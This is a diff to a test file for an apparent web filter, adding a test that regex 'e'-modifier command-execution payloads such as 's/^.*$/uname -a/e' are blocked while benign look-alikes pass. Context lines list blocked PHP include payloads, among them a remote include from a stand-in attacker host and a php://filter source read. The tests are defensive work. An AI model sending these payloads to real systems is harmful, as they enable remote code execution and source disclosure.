@@ -1018,3 +1018,13 @@ def test_a_graphql_include_directive_is_no_php_include(edge):
     check_blocked(edge, ["<?php include($_GET['p']); ?>",
                          "@include(http://evil.example/shell.txt)",
                          "include('php://filter/convert.base64-encode/resource=index.php')"])
+
+
+def test_the_e_modifier_evaluates(edge):
+    """sed's s///e runs the pattern space it made as a command; Perl's
+    s///e and PHP's preg_replace /e evaluate the replacement. Without the
+    e, or a path that is no pattern, nothing runs."""
+    check_blocked(edge, ["s/^.*$/uname -a/e", "sed 's/x/whoami/e'", "/^(.+)$/e",
+                         "#(\\w+)#ie"])
+    check_passes(edge, ["s/colour/color/g", "/home/e", "https://example.com/en/edit",
+                        "s/teh/the/ throughout the draft", "/srv/www/e/index.html"])
